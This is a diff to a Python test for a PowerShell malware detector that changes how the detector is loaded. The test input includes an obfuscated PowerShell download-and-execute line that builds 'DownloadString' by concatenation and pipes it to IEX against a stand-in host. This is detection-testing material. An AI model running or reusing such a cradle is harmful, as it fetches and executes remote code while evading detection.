@@ -98,7 +98,7 @@ def test_the_released_detector_is_explained_faithfully():
     """An inert stand-in of a downloader between lines of administration."""
     from psembed.detector import Detector
 
-    detector = Detector.load(threads=1)
+    detector = Detector.load()
     script = TEXT.replace(
         "Invoke-Evil http://bad.example.test/payload",
         "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.test/a.txt')",
